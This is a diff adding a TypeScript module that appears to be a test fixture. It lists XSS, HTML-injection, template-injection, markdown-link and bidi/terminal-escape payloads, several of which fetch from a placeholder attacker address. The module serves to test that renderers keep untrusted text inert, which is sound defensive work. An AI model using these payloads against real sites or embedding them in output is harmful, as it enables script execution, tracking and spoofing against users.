@@ -1,0 +1,30 @@
+/** Texts that would run, load or lead somewhere if a page took them for more than text. `{{here}}` stands for the attacker's address. */
+const forms: readonly string[] = [
+  '<script>window.ran=1;fetch("{{here}}/script")</script>',
+  '<script src="{{here}}/src.js"></script>',
+  '<img src="{{here}}/img.png">',
+  '<img src=x onerror="window.ran=1;fetch(`{{here}}/onerror`)">',
+  '<svg onload="window.ran=1"><image href="{{here}}/svg.png"/></svg>',
+  '<svg><script>window.ran=1</script></svg>',
+  '<iframe src="{{here}}/frame"></iframe>',
+  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
+  '<object data="{{here}}/object"></object><embed src="{{here}}/embed">',
+  '<link rel="stylesheet" href="{{here}}/style.css">',
+  '<style>@import "{{here}}/import.css"; body{background:url({{here}}/bg.png)}</style>',
+  '<div style="background:url({{here}}/inline.png)">x</div>',
+  '<a href="javascript:window.ran=1">open</a>',
+  '[open](javascript:window.ran=1) ![pixel]({{here}}/markdown.png)',
+  '[run](command:workbench.action.terminal.new)',
+  '<form action="{{here}}/form"><button autofocus onfocus="window.ran=1">x</button></form>',
+  '<input autofocus onfocus="window.ran=1"><details open ontoggle="window.ran=1">',
+  '<video poster="{{here}}/poster"><source src="{{here}}/video" onerror="window.ran=1"></video>',
+  '<base href="{{here}}/"><meta http-equiv="refresh" content="0;url={{here}}/refresh">',
+  '<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=window.ran=1>',
+  '</textarea></title></script><img src=x onerror=window.ran=1>',
+  "\"><img src=x onerror=window.ran=1> ' onmouseover=window.ran=1 x='",
+  '$' + '{window.ran=1} {{constructor.constructor("window.ran=1")()}} <!--?lit$1$--><?lit$2$?>',
+  '\u202e\u2066gnp.exe\u2069 \u200bhidden \u001b]8;;{{here}}/osc\u0007link\u001b]8;;\u0007 \u001b[31mred',
+  '<template><img src="{{here}}/template.png"></template><noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
+];
+
+export const payloads = (attacker: string): string[] => forms.map((form) => form.replaceAll('{{here}}', attacker));
